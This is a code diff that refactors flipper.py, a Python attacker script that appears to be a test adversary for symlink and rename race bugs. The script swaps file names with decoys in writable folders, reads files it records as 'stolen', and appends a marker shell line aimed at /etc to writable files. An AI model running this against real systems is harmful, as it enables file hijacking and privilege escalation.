@@ -14,13 +14,9 @@ Usage: python3 flipper.py '{"places": […], "looks": […], "targets": […], "
 from __future__ import annotations
 
 import contextlib
-import ctypes
 import json
 import os
 import random
-import select
-import socket
-import stat
 import sys
 import time
 from collections import Counter
@@ -29,19 +25,13 @@ from typing import Any
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))  # noqa: PTH100, PTH120
 from marks import files, is_marked  # type: ignore[import-not-found,unused-ignore]
+from reach import Reach, bind, entries, exchange, is_over, remove  # type: ignore[import-not-found,unused-ignore]
 
-EXCHANGE = 2  # RENAME_EXCHANGE, linux/fs.h
 PREFIX = ".flip-"
 MOST_FOLDERS, MOST_VICTIMS, MOST_HELD = 60, 120, 200
 # What a root that runs it would leave; the user itself cannot.
 LINE = b"\n: >/etc/owned-by-the-attacker 2>/dev/null || :\n"
 KINDS = ("link", "link", "link", "fifo", "socket", "folder", "hard link", "device", "dangling", "loop")
-_libc = ctypes.CDLL(None, use_errno=True)
-
-
-def exchange(folder: int, one: bytes, other: bytes) -> bool:
-    """Exchange two names of a folder, so that neither is missing at any moment."""
-    return bool(_libc.renameat2(folder, one, folder, other, EXCHANGE) == 0)
 
 
 @dataclass
@@ -53,19 +43,17 @@ class Victim:
         name, decoy: what is exchanged.
         kind: of the decoy.
         away: whether the decoy has its name now.
-        is_folder: whether it is one.
     """
 
     folder: int
     name: str
     decoy: str
     kind: str
-    is_folder: bool
     away: bool = False
 
     def flip(self) -> bool:
         """Exchange it with its decoy."""
-        done = exchange(self.folder, os.fsencode(self.name), os.fsencode(self.decoy))
+        done = bool(exchange(self.folder, self.name, self.decoy))
         if done:
             self.away = not self.away
         return done
@@ -79,23 +67,21 @@ class Attacker:
     """
 
     def __init__(self, wanted: dict[str, Any]) -> None:
-        self.places: list[str] = wanted["places"]
+        self.reach = Reach(wanted["places"], MOST_FOLDERS)
         self.looks: list[str] = wanted["looks"]
         self.targets: list[str] = wanted["targets"]
         self.random = random.Random(wanted["seed"])  # noqa: S311 - to be had again
-        self.folders: dict[int, tuple[str, int]] = {}
         self.victims: list[Victim] = []
         self.held: dict[int, int] = {}
         self.read: set[tuple[int, int]] = set()
         self.counts: Counter[str] = Counter()
-        self.attacked: set[str] = set()
         self.stolen: set[str] = set()
         self.owned: set[str] = set()
 
     def run(self) -> None:
         """Attack in phases: names flipped without a pause, with short ones, or left wrong for a while."""
         told = False
-        while not self._is_over():
+        while not is_over():
             self._put_back()
             self._scan()
             self._spread()
@@ -113,13 +99,10 @@ class Attacker:
         return {
             "flips": self.counts["flips"],
             "counts": dict(self.counts),
-            "attacked": sorted(self.attacked),
+            "attacked": sorted(self.reach.seen),
             "stolen": sorted(self.stolen),
             "owned": sorted(self.owned),
         }
-
-    def _is_over(self) -> bool:
-        return bool(select.select([0], [], [], 0)[0])
 
     # Phases.
 
@@ -155,34 +138,11 @@ class Attacker:
     # What there is to attack.
 
     def _scan(self) -> None:
-        for opened in self.folders:
-            os.close(opened)
-        self.folders.clear()
-        for place in self.places:
-            self._enter(place, 0)
+        self.reach.scan()
         self.counts["scans"] += 1
         for look in self.looks:
             for file in files(look):
                 self._look_at(file)
-
-    def _enter(self, path: str, depth: int) -> None:
-        """Find the folders that can be written to."""
-        if depth > 8 or len(self.folders) >= MOST_FOLDERS:
-            return
-        try:
-            opened = os.open(path, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW)
-        except OSError:
-            return
-        inner = []
-        with contextlib.suppress(OSError), os.scandir(opened) as entries:
-            inner = sorted(entry.name for entry in entries if entry.is_dir(follow_symlinks=False))
-        if os.access(path, os.W_OK):
-            self.folders[opened] = (path, len(inner))
-            self.attacked.add(path)
-        else:
-            os.close(opened)
-        for name in inner:
-            self._enter(f"{path}/{name}", depth + 1)
 
     def _look_at(self, file: os.DirEntry[str]) -> None:
         """Read what can be read; keep what can be written to, and is not in a folder of ours."""
@@ -210,18 +170,17 @@ class Attacker:
                 os.lseek(opened, 0, os.SEEK_END)
                 os.write(opened, LINE)
                 self.counts["written"] += 1
-                self.owned.add(os.readlink(f"/proc/self/fd/{opened}"))  # noqa: PTH115
+                path = os.readlink(f"/proc/self/fd/{opened}")  # noqa: PTH115
+                self.owned.add(path.removesuffix(" (deleted)"))
 
     # Decoys.
 
     def _spread(self) -> None:
         self.victims = []
-        for opened, (_, _) in self.folders.items():
-            with contextlib.suppress(OSError), os.scandir(opened) as entries:
-                found = [(entry.name, entry.is_dir(follow_symlinks=False)) for entry in entries]
-                for name, is_folder in sorted(found):
-                    if not name.startswith(PREFIX) and len(self.victims) < MOST_VICTIMS:
-                        self._prepare(opened, name, is_folder)
+        for folder in self.reach.folders:
+            for name, is_folder in entries(folder):
+                if not name.startswith(PREFIX) and len(self.victims) < MOST_VICTIMS:
+                    self._prepare(folder, name, is_folder)
 
     def _prepare(self, folder: int, name: str, is_folder: bool) -> None:
         kind = self.random.choice(KINDS)
@@ -231,7 +190,7 @@ class Attacker:
         except OSError:
             self.counts["not made"] += 1
             return
-        self.victims.append(Victim(folder, name, decoy, kind, is_folder))
+        self.victims.append(Victim(folder, name, decoy, kind))
 
     def _make(self, folder: int, decoy: str, kind: str, name: str, is_folder: bool) -> None:
         if kind == "link":
@@ -241,8 +200,7 @@ class Attacker:
         elif kind == "fifo":
             os.mkfifo(decoy, dir_fd=folder)
         elif kind == "socket":
-            with socket.socket(socket.AF_UNIX) as made:
-                made.bind(f"/proc/self/fd/{folder}/{decoy}")
+            bind(folder, decoy)
         elif kind == "folder":
             os.mkdir(decoy, dir_fd=folder)
         elif kind == "hard link" and not is_folder:
@@ -262,15 +220,6 @@ class Attacker:
             if not victim.away:
                 remove(victim.folder, victim.decoy)
         self.victims = []
-
-
-def remove(folder: int, name: str) -> None:
-    """Remove a name of ours, whatever it is by now."""
-    with contextlib.suppress(OSError):
-        if stat.S_ISDIR(os.stat(name, dir_fd=folder, follow_symlinks=False).st_mode):
-            os.rmdir(name, dir_fd=folder)
-        else:
-            os.unlink(name, dir_fd=folder)
 
 
 def main() -> None:
